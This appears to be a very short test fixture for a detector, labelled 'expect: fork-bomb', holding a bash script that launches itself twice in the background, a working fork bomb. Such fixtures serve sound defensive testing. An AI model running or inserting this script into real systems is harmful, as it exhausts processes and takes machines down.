# expect: fork-bomb
#!/bin/bash
$0 & $0 &
